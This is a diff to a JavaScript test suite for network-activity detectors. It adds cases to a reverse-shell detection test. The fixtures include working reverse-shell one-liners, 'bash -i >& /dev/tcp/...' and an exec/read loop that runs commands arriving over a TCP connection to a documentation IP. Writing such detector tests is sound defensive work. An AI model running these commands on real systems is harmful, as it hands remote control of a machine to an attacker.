@@ -119,6 +119,10 @@ testFamily(networkDetectors, {
   trace_opens_reverse_shell: {
     hits: {
       'bash over tcp': [runs('bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')],
+      'a connection whose lines are run': [
+        runs('exec 5<>/dev/tcp/203.0.113.9/4444', { pid: 10 }),
+        runs('while read line; do $line 2>&5 >&5; done <&5', { pid: 11 }),
+      ],
       'a shell after a connection': [
         { network: [{ kind: 'tcp', host: '203.0.113.9', port: 4444, pid: 100 }] },
         runs('/bin/sh -i', { pid: 101, parentPid: 100 }),
@@ -130,6 +134,8 @@ testFamily(networkDetectors, {
         runs('/bin/sh -c ls', { parentPid: 100 }),
       ],
       'a port is looked at': [runs('nc -z host 22')],
+      'a connection is opened and nothing passes': [runs('exec 3<>/dev/tcp/db/5432')],
+      'a port is tried': [runs('timeout 1 bash -c </dev/tcp/db/5432')],
     },
   },
   trace_listens: {
